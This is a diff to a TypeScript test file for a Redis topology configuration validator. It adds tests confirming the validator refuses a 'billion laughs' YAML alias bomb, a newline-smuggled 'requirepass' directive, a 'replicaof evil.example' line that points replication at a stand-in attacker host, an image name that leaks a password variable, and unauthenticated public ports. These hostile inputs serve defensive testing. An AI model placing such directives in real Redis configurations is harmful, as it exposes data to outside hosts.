@@ -6,7 +6,7 @@ import { relative } from 'node:path';
 import { after, before, describe, it } from 'node:test';
 import type { Problem } from '../../src/model/problems.js';
 import { makeTempDir, removeDir } from '../helpers/tmp.js';
-import { problemsOf, writeTopologyFile } from '../helpers/topology.js';
+import { billionLaughsYaml, problemsOf, writeTopologyFile } from '../helpers/topology.js';
 
 let dir: string;
 before(async () => {
@@ -161,6 +161,31 @@ describe('YAML syntax', () => {
     );
   });
 
+  it('a YAML alias bomb ("billion laughs") is refused naming the file and the alias limit, not expanded', async () => {
+    const f = await file('bomb', billionLaughsYaml());
+    const started = Date.now();
+    assert.deepEqual(await invalid({ file: f.path }), [
+      {
+        severity: 'error',
+        path: '',
+        source: f.label,
+        message: 'YAML aliases expand past the limit of 100 alias resolutions (a "billion laughs" document)',
+        hint: 'write the values out instead of nesting aliases (*name) inside aliased collections',
+      },
+    ]);
+    assert.ok(Date.now() - started < 5000, `refused in ${Date.now() - started} ms`);
+  });
+
+  it('a few aliases within the limit still load', async () => {
+    const f = await file('aliases', 'preset: basic\nx-common: &tuning ["hz 50"]\nredis:\n  extraConfig: *tuning\n');
+    const problems = await invalid({ file: f.path });
+    // x-common is no topology key; the point is that the alias resolved and the rest was checked.
+    assert.deepEqual(
+      problems.map((p) => [p.path, p.message]),
+      [['x-common', 'unknown key "x-common"']],
+    );
+  });
+
   it('a missing file is reported as such', async () => {
     const problems = await invalid({ file: `${dir}/does-not-exist.yaml` });
     assert.deepEqual(
@@ -291,7 +316,50 @@ describe('sources of rule problems', () => {
     const f = await file('noauth', 'preset: basic\nbind: 0.0.0.0\nauth:\n  enabled: false\n');
     assert.deepEqual(
       (await invalid({ file: f.path })).map((p) => [p.severity, p.path, p.message, p.source]),
-      [['error', 'auth.enabled', 'ports are published on 0.0.0.0 without a password', `${f.label}:4:12`]],
+      [
+        [
+          'error',
+          'auth.enabled',
+          'ports are published on 0.0.0.0 without a password: anyone who reaches them can read and write everything',
+          `${f.label}:4:12`,
+        ],
+      ],
+    );
+  });
+
+  it('security problems point at the offending entry in the file, or at the flag', async () => {
+    const f = await file(
+      'security',
+      [
+        'preset: basic',
+        'redis:',
+        '  image: "x/redis:${REDIS_PASSWORD}"',
+        '  extraConfig:',
+        '    - hz 100',
+        '    - "loglevel notice\\nrequirepass x"',
+        "    - '\"replicaof\" evil.example 6379'",
+        'auth:',
+        '  enabled: false',
+        '',
+      ].join('\n'),
+    );
+    const fromFile = await invalid({ file: f.path });
+    assert.deepEqual(
+      fromFile.map((p) => [p.severity, p.path, p.source]),
+      [
+        ['error', 'redis.extraConfig.1', `${f.label}:6:7`],
+        ['error', 'redis.extraConfig.2', `${f.label}:7:7`],
+        ['error', 'redis.image', `${f.label}:3:10`],
+        ['warning', 'auth.enabled', `${f.label}:9:12`],
+      ],
+    );
+    const fromFlag = await invalid({
+      preset: 'basic',
+      overrides: [{ path: 'redis.image', value: 'redis:${TAG}', flag: '--redis-image' }],
+    });
+    assert.deepEqual(
+      fromFlag.map((p) => [p.path, p.source, p.message]),
+      [['redis.image', '--redis-image', '"redis:${TAG}" is not a valid image reference: "$" is not allowed: Compose would substitute a variable into the image name']],
     );
   });
 
